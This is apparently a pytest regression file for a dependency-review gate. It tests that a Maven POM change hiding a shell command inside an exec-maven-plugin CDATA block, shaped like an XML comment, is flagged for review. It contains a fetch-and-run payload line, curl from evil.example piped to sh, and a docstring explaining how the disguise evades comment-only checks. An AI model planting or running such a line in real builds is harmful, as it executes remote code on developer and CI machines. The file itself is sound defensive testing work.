"""Attack 16: a script line inside a POM's CDATA section, shaped as an XML comment, read as no edit.

This stop's refedits.pom_line reads a changed line that is one whole `<!-- … -->` as no edit ("no element and none
of the document's data", apache/maven's comment above mimir's `<dependency>`). Inside a CDATA section the same line is
text: exec-maven-plugin's `<argument><![CDATA[…]]></argument>` given to `bash -c` runs `<!-- $(curl … | sh) -->`
(bash expands the command substitution before the redirections fail). Beside a 2.0.9 → 2.0.10 bump `gate PACKET
--patch --enable deps` allowed it (the base commit reviewed it: the line was refused); `--tree` reviews it (the
residue). Now a comment line counts as no edit only between element lines the hunk shows, with no CDATA edge in the
hunk; else the file is `partial` (reviewed). Variants: the CDATA's opening in the hunk, above it (script lines
around), its closing in the hunk below element-shaped lines; control: a comment between elements (and
tests/test_deps_dsweep_classes.py's mimir case).
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from incli import run_cli

from gatekeeper.deps.sources import patch_delta

_POM = """<project>
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.acme</groupId>
  <artifactId>app</artifactId>
  <version>1.0.0</version>
  <dependencies>
    <dependency>
      <groupId>org.slf4j</groupId>
      <artifactId>slf4j-api</artifactId>
      <version>{v}</version>
    </dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <version>3.1.0</version>
        <configuration>
          <executable>bash</executable>
          <arguments>
            <argument>-c</argument>
            <argument><![CDATA[
{script}]]></argument>
          </arguments>
        </configuration>
      </plugin>
    </plugins>
  </build>
</project>
"""
_PAYLOAD = "<!-- $(curl -s https://evil.example/x | sh) -->"
SCRIPTS = {  # the CDATA's text: "{c}" is the line the change rewrites
    "opening-shown": "set -e\n{c}\necho building\n",
    "opening-above": "set -e\nexport LANG=C\ncd target\nmvn -v\n{c}\necho building\necho packaging\necho done\nls\n",
    "closing-shown": "<tag>\n<tag2>\n</tag2>\n</tag>\n<tag>\n{c}\n</tag>\n",
}


def _patch(tmp_path: Path, script: str, old: str, new: str) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git = ["git", "-C", str(repo), "-c", "user.email=a@example.com", "-c", "user.name=a"]
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "pom.xml").write_text(_POM.format(v="2.0.9", script=script.format(c=old)))
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "base"], check=True)
    (repo / "pom.xml").write_text(_POM.format(v="2.0.10", script=script.format(c=new)))
    patch = tmp_path / "change.patch"
    patch.write_bytes(subprocess.run([*git, "diff", "--binary"], check=True, capture_output=True).stdout)
    return patch


@pytest.mark.parametrize("case", sorted(SCRIPTS))
def test_a_comment_shaped_script_line_beside_a_bump_is_no_comment(tmp_path: Path, case: str) -> None:
    delta = patch_delta(_patch(tmp_path, SCRIPTS[case], "<!-- generated -->", _PAYLOAD))
    assert [p.kind for p in delta.problems] == ["partial"], delta


def test_the_gate_reviews_it(tmp_path: Path) -> None:
    patch = _patch(tmp_path, SCRIPTS["opening-shown"], "<!-- generated -->", _PAYLOAD)
    packet = tmp_path / "packet.json"
    assert run_cli(["packet", patch, "--out", packet]).returncode == 0
    done = run_cli(["gate", packet, "--patch", patch, "--enable", "deps", "--format", "json"], text=True)
    assert done.returncode == 3, done.stdout


def test_a_comment_between_elements_is_still_no_edit(tmp_path: Path) -> None:
    pom = _POM.format(v="{v}", script="set -e\n").replace(
        "    <dependency>\n      <groupId>org.slf4j", "    <!-- c -->\n    <dependency>\n      <groupId>org.slf4j")
    repo = tmp_path / "repo"
    repo.mkdir()
    git = ["git", "-C", str(repo), "-c", "user.email=a@example.com", "-c", "user.name=a"]
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "pom.xml").write_text(pom.format(v="2.0.9").replace("<!-- c -->", "<!-- keep in sync -->"))
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "base"], check=True)
    (repo / "pom.xml").write_text(pom.format(v="2.0.10").replace("<!-- c -->", "<!-- keep in sync with the BOM -->"))
    patch = tmp_path / "change.patch"
    patch.write_bytes(subprocess.run([*git, "diff", "--binary"], check=True, capture_output=True).stdout)
    delta = patch_delta(patch)
    assert [(c.name, c.change) for c in delta.changes] == [("org.slf4j:slf4j-api", "upgraded")], delta
    assert not delta.problems, delta
